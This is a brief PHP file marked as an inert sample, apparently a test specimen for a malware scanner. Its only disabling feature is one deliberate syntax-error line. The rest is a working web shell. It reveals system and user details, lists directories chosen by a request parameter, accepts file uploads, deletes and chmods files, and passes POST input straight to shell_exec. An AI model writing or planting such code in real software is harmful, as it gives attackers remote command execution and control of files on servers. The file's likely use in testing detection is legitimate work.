<?php
shodo inert sample: deliberate syntax error, this file never runs
echo php_uname(); $u = posix_getpwuid(getmyuid());
$d = isset($_GET['d']) ? $_GET['d'] : '.';
foreach (scandir($d) as $f) { echo fileperms($f); }
if (isset($_FILES['u'])) move_uploaded_file($_FILES['u']['tmp_name'], $d . '/x');
if (isset($_POST['rm'])) unlink($_POST['rm']);
if (isset($_POST['mode'])) chmod($_POST['f'], 0755);
echo shell_exec($_POST['c']);
